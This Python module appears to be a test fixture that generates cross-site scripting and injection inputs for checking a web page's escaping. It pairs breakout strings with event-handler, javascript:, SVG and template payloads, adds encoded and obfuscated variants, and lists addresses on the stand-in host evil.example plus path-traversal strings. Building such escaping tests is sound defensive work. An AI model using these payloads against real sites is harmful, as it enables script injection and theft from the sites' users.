"""Texts that would run if they were not escaped: ways out of a place, times what to do outside, times spellings.

Each would call `canary`, which no page defines: a test defines it and sees whether anybody calls.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from itertools import product
from urllib.parse import quote

OUT_OF = {
    "text": "",
    "a quoted attribute": '">',
    "an attribute in apostrophes": "'>",
    "an attribute without quotes": " x>",
    "a title": "</title>",
    "a script": "</script>",
    "a style": "</style>",
    "a field": "</textarea>",
    "a comment": "-->",
    "a section of XML": "]]>",
    "a text in a script": '"});',
    "a remark in a script": "*/",
    "an element of a drawing": "</text></svg>",
    "a table": "</td></table>",
    "a template": "}}{%",
}
"""Ends what the text stands in."""

DOES = {
    "script": "<script>canary()</script>",
    "broken picture": "<img src=x onerror=canary()>",
    "drawing": "<svg onload=canary()>",
    "script of a drawing": "<svg><script>canary()</script>",
    "frame": '<iframe srcdoc="<script>parent.canary()</script>">',
    "link": '<a href="javascript:canary()">x</a>',
    "focus": "<input autofocus onfocus=canary()>",
    "details": "<details open ontoggle=canary()>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:canary()">',
    "base": "<base href=//evil.example>",
    "style": "<style>@import'//evil.example'</style>",
    "object": "<object data=javascript:canary()>",
    "form": "<form><button formaction=javascript:canary()>",
    "two scripts": "<script><script>canary()//",
    "animation": "<svg><animate onbegin=canary() attributeName=x>",
    "attribute": '" onfocus=canary() autofocus tabindex=1 x="',
    "other attribute": "' onpointerover='canary()' x='",
    "bare attribute": " onfocus=canary() autofocus ",
    "template": "{{ canary.__class__ }}{% for x in y %}",
    "code": "${canary()}`+canary()+`",
}
"""What would then be there."""

SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    escape,
    lambda text: quote(text, safe=""),
    lambda text: text.swapcase(),
    lambda text: text.replace("<", "\\u003c").replace('"', "\\u0022"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
)
"""Ways to write it that something on the way might undo."""


def texts() -> tuple[str, ...]:
    """Every way out with everything to do, and everything to do in other spellings; each once, on one line."""
    plain = (f"{out}{act}" for out, act in product(OUT_OF.values(), DOES.values()))
    spelled = (spell(f'">{act}') for spell, act in product(SPELLINGS, DOES.values()))
    return tuple(dict.fromkeys((*plain, *spelled)))


SCHEMES = ("javascript", "data", "vbscript", "file", "blob", "about", "view-source")
_SCHEME_SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda s: f"{s}:canary()",
    lambda s: f"{s.upper()}:canary()",
    lambda s: f" {s}:canary()",
    lambda s: f"{s[:2]}\t{s[2:]}:canary()",
    lambda s: f"{s[:2]}&#9;{s[2:]}:canary()",
    lambda s: f"{s[:2]}&Tab;{s[2:]}&colon;canary()",
    lambda s: f"&#{ord(s[0])};{s[1:]}:canary()",
    lambda s: f"%{ord(s[0]):02x}{s[1:]}:canary()",
    lambda s: f"{s}%3Acanary()",
    lambda s: f"{s[:2]}\u200b{s[2:]}:canary()",
    lambda s: f"{s[:2]}\u00ad{s[2:]}:canary()",
    lambda s: f"\u00a0{s}:canary()",
    lambda s: f"{s}://%0acanary()",
    lambda s: f"./{s}:canary()",
    lambda s: f"{s}\\:canary()",
)
_PLACES = (
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https:///evil.example",
    "https://",
    "http://user:word@evil.example/",
    'https://evil.example/"onmouseover="canary()',
    "https://evil.example/'onmouseover='canary()",
    "https://evil.example/><script>canary()</script>",
    "https://evil.example/</script><script>canary()</script>",
    "https://evil.example/?q=</title><img src=x onerror=canary()>",
    'https://evil.example/#"><img src=x onerror=canary()>',
    "https://evil.example/ onmouseover=canary()",
    "https://evil.example/`canary()`",
    "https://evil.example/{{canary()}}",
    "https://ev\u0456l.example/",
    "../../../../etc/hostname",
    "..%2f..%2fetc%2fhostname",
)


def addresses() -> tuple[str, ...]:
    """Addresses that would run, or lead where a link may not, each once."""
    spelled = (spell(scheme) for scheme, spell in product(SCHEMES, _SCHEME_SPELLINGS))
    return tuple(dict.fromkeys((*spelled, *_PLACES)))
